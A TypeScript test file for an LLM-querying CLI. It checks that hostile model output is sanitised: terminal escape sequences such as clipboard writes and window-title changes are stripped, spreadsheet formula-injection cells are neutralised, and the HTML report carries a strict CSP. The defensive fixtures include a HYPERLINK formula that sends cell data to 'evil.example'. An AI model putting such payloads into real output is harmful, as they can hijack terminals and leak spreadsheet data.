import { mkdtempSync, readdirSync, readFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createTerminalSafeStream, terminalSafe } from '../../src/format/terminal-safe.js';
import { renderCsvReport } from '../../src/report/csv-report.js';
import { htmlReportContentSecurityPolicy, renderHtmlReport } from '../../src/report/html-report.js';
import type { JsonReport } from '../../src/report/json-report.js';
import type { ModelResult } from '../../src/run/model-result.js';
import { startFakeLlmServer, type FakeLlmServer } from '../support/fake-llm-server.js';
import { okResult } from '../support/model-result-fixture.js';
import { runCliInProcess } from '../support/run-cli-in-process.js';
import { resolveModel } from '../../src/providers/registry.js';
import { createLiveTextReporter } from '../../src/ui/live-text-reporter.js';

/** Any byte a terminal could act on: C0 controls but newline and tab, DEL, C1 controls. */
const controlCharacter = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

const clipboard = '\u001b]52;c;ZXZpbA==\u0007';
const windowTitle = '\u001b]0;pwned\u0007';
const hyperlink = '\u001b]8;;http://x\u0007link\u001b]8;;\u0007';
const clearScreen = '\u001b[2J';
const c1Csi = '\u009b31m';
/** One model's hostile reply, a title sequence split across two SSE chunks and an ESC at a chunk's end. */
const hostileChunks = [
  '# Hostile draft\n\n',
  `clip ${clipboard}one `,
  `${windowTitle}two `,
  `${hyperlink} three `,
  `${clearScreen}four `,
  `${c1Csi}five `,
  'six \u001b]0;spl',
  'it-title\u0007seven \u001b',
  '[1mend\u0007\u0008\r\n',
];
const hostileText = hostileChunks.join('');

describe('terminalSafe', () => {
  it('removes OSC 52 / 0 / 8, CSI, C1 CSI and other control characters, keeping the text, newlines and tabs', () => {
    expect(terminalSafe(hostileText)).toBe('# Hostile draft\n\nclip one two link three four five six seven end\n');
    expect(terminalSafe('a\tb\nc 中文 🙂')).toBe('a\tb\nc 中文 🙂');
    expect(terminalSafe('st-terminated \u001b]0;x\u001b\\done, DCS \u001bPq#0\u001b\\ok, charset \u001b(Bx, reset \u001bcy')).toBe(
      'st-terminated done, DCS ok, charset x, reset y',
    );
    expect(terminalSafe('8-bit OSC \u009d0;t\u009cok')).toBe('8-bit OSC ok');
  });

  it('drops bidirectional controls, so a line cannot be reordered on screen', () => {
    expect(terminalSafe('a\u202eevil\u202c b\u2066c\u2069 d\u200fe\u061c')).toBe('aevil bc de');
    expect(terminalSafe('中文 עברית')).toBe('中文 עברית');
  });

  it('gives the same text however the stream is split (a sequence split across deltas is removed whole)', () => {
    const whole = terminalSafe(hostileText);
    for (let cut = 0; cut <= hostileText.length; cut += 1) {
      const stream = createTerminalSafeStream();
      const pieces = stream.write(hostileText.slice(0, cut)) + stream.write(hostileText.slice(cut)) + stream.end();
      expect(pieces).toBe(whole);
    }
    const stream = createTerminalSafeStream();
    expect(Array.from(hostileText, (character) => stream.write(character)).join('')).toBe(whole);
  });

  it('gives up on a sequence that never ends, instead of swallowing the rest of the text', () => {
    const stream = createTerminalSafeStream();
    const swallowed = stream.write(`\u001b]0;${'x'.repeat(5000)}`);
    expect(swallowed.length).toBeLessThan(1000);
    expect(stream.write(' visible')).toBe(' visible');
    expect(terminalSafe(`\u001b[${'1;'.repeat(300)}after`)).toContain('after');
  });
});

describe('live text reporter', () => {
  it('strips per model: two models streaming at once, each with a sequence split across its deltas, never leak a byte', () => {
    let screen = '';
    const sink = { write: (text: string) => (screen += text) };
    const reporter = createLiveTextReporter(sink, sink);
    const a = resolveModel('mock:a', {});
    const b = resolveModel('mock:b', {});
    reporter.started(a, 0, 2);
    reporter.started(b, 1, 2);
    reporter.delta(a, 'A1 \u001b]0;ti');
    reporter.delta(b, 'B1 \u001b[2');
    reporter.delta(a, 'tle\u0007A2 ');
    reporter.delta(b, 'JB2 \u001b]52;c;');
    reporter.finished(okResult('mock:a', 'A1 A2'));
    reporter.delta(b, 'ZXZpbA==\u0007B3');
    reporter.finished(okResult('mock:b', 'B1 B2 B3'));
    reporter.stop();
    expect(screen).not.toMatch(controlCharacter);
    expect(screen).toContain('A1 A2');
    expect(screen).toContain('B1 B2 B3');
    expect(screen).not.toMatch(/title|ZXZpbA/);
  });
});

/** A minimal RFC 4180 reader: rows of fields, quotes undone. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let index = 0; index < text.length; index += 1) {
    const character = text[index];
    if (quoted) {
      if (character === '"' && text[index + 1] === '"') {
        field += '"';
        index += 1;
      } else if (character === '"') quoted = false;
      else field += character;
    } else if (character === '"') quoted = true;
    else if (character === ',') {
      row.push(field);
      field = '';
    } else if (character === '\r' && text[index + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      index += 1;
    } else field += character;
  }
  return rows;
}

const reportOf = (results: ModelResult[]): JsonReport => ({
  version: 1,
  runId: 1,
  startedAt: '2026-01-02T03:04:05.000Z',
  prompt: { source: 'brief.md', chars: 10 },
  results,
});

describe('CSV report', () => {
  const hostileCells = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+cmd|calc', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];

  it('neutralises every text cell a spreadsheet would take for a formula, keeps numbers as numbers and the BOM', () => {
    const results = hostileCells.map((cell, index) =>
      okResult(`openai:m${index}`, `# ${cell}\n\nbody`, {
        promptId: cell,
        text: cell,
        usage: { ...okResult('x:y', null).usage, inputTokens: 12, outputTokens: 345 },
        costUsd: 0.0125,
        outputFile: cell,
        status: 'error',
        error: { type: 'SERVER_ERROR', message: cell, retryable: false, status: 500, requestId: null, retryAfterMs: null },
      }),
    );
    const csv = renderCsvReport(reportOf(results));
    expect(csv.startsWith('\ufeff')).toBe(true);
    const [header, ...rows] = parseCsv(csv.slice(1));
    const column = (name: string) => header?.indexOf(name) ?? -1;
    rows.forEach((row, index) => {
      const cell = hostileCells[index] as string;
      for (const name of ['promptId', 'title', 'errorMessage', 'outputFile', 'text']) {
        const value = row[column(name)] ?? '';
        expect(value.startsWith("'"), `${name} of row ${index}: ${JSON.stringify(value)}`).toBe(true);
      }
      expect(row[column('text')]).toBe(`'${cell}`);
      expect(row[column('inputTokens')]).toBe('12');
      expect(row[column('outputTokens')]).toBe('345');
      expect(row[column('costUsd')]).toBe('0.0125');
    });
    // Raw: a neutralised cell is always quoted; parsed back, no field starts with a formula character.
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    expect(csv).toContain(`"'-2+3"`);
    for (const row of rows) for (const field of row) expect(field).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('leaves ordinary text alone', () => {
    const csv = renderCsvReport(reportOf([okResult('openai:plain', '# 咖啡店的冬季新品\n\n正文')]));
    const [, row] = parseCsv(csv.slice(1));
    expect(row).toContain('咖啡店的冬季新品');
  });
});

describe('HTML report', () => {
  const draft = [
    '# 远程图片',
    '',
    '![猫](http://127.0.0.1:9/cat.png "t") and ![](https://example.com/x.png) and ![rel](cat.png)',
    '',
    '![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=)',
    '',
    '[a link](https://example.com/page)',
  ].join('\n');

  it('carries a Content-Security-Policy that blocks remote loads, and renders remote images as links', () => {
    const html = renderHtmlReport(reportOf([okResult('openai:img', draft)]), { text: 'brief', title: 't' }, '0.0.0');
    expect(html).toContain(`<meta http-equiv="Content-Security-Policy" content="${htmlReportContentSecurityPolicy}">`);
    expect(htmlReportContentSecurityPolicy).toMatch(/default-src 'none'/);
    expect(htmlReportContentSecurityPolicy).toMatch(/img-src data:;/);
    expect(htmlReportContentSecurityPolicy).not.toMatch(/http|\*/);
    expect(html).not.toMatch(/<img[^>]+src="(?!data:)/);
    expect(html).not.toMatch(/<script/);
    expect(html).toContain('<a class="image-link" href="http://127.0.0.1:9/cat.png" rel="noopener noreferrer">[图片: 猫]</a>');
    expect(html).toContain('href="https://example.com/x.png" rel="noopener noreferrer">[图片: ]</a>');
    expect(html).toContain('href="cat.png" rel="noopener noreferrer">[图片: rel]</a>');
    expect(html).toMatch(/<img src="data:image\/png;base64,[^"]+" alt="dot">/);
    expect(html).toContain('<a href="https://example.com/page" rel="noopener noreferrer">a link</a>');
  });
});

describe('terminal output of hostile model text (CLI in-process, fake server on 127.0.0.1)', () => {
  let server: FakeLlmServer;
  let cwd: string;
  beforeAll(async () => {
    server = await startFakeLlmServer();
  });
  afterAll(() => server.close());
  beforeEach(() => {
    server.reset();
    server.replies.set('gpt-hostile', { chunks: hostileChunks, reasoning: `think ${windowTitle}${clearScreen}hard` });
    server.replies.set('gpt-broken', {
      status: 400,
      errorBody: { error: { message: `bad ${windowTitle}${clipboard}request ${clearScreen}`, type: 'invalid_request_error' } },
    });
    cwd = mkdtempSync(path.join(os.tmpdir(), 'ww-safe-viewers-'));
  });
  const env = () => ({ OPENAI_API_KEY: 'sk-safe-viewers-test', OPENAI_BASE_URL: server.openaiBaseURL });
  const savedDrafts = () => {
    const directory = path.join(cwd, 'output');
    return readdirSync(directory, { recursive: true, encoding: 'utf8' })
      .filter((name) => name.endsWith('.md'))
      .map((name) => readFileSync(path.join(directory, name), 'utf8'));
  };

  it.each([
    ['--show full --show-reasoning', ['--show', 'full', '--show-reasoning']],
    ['--live', ['--live']],
  ])('%s: no escape, BEL or C1 byte reaches stdout or stderr; the .md file keeps the text as sent', async (_label, flags) => {
    const run = await runCliInProcess(['-m', 'openai:gpt-hostile,openai:gpt-broken', '--retries', '0', ...flags, 'topic'], {
      cwd,
      env: env(),
    });
    expect(run.code).toBe(1);
    expect(run.stdout).not.toMatch(controlCharacter);
    expect(run.stderr).not.toMatch(controlCharacter);
    expect(run.stdout).toContain('clip one two link three four five six seven end');
    expect(`${run.stdout}${run.stderr}`).not.toMatch(/pwned|it-title|ZXZpbA/);
    expect(run.stderr).toContain('bad request');
    if (flags.includes('--show-reasoning')) expect(run.stdout).toContain('think hard');
    const drafts = savedDrafts();
    expect(drafts).toHaveLength(1);
    expect(drafts[0]).toContain(hostileText.trimEnd().replace(/\r\n$/, ''));
  });

  it('in a Chinese run too: the server words quoted in a Chinese sentence carry no control byte', async () => {
    const run = await runCliInProcess(['-m', 'openai:gpt-hostile,openai:gpt-broken', '--retries', '0', '--show', 'full', 'topic'], {
      cwd,
      env: { ...env(), WECHAT_WRITER_LANG: 'zh-CN' },
    });
    expect(run.code).toBe(1);
    expect(run.stdout).not.toMatch(controlCharacter);
    expect(run.stderr).not.toMatch(controlCharacter);
    expect(`${run.stdout}${run.stderr}`).not.toMatch(/pwned|it-title|ZXZpbA/);
    expect(run.stderr).toMatch(/BAD_REQUEST 错误（HTTP 400）：服务商返回“bad request ”；.*解决办法：/);
  });
});
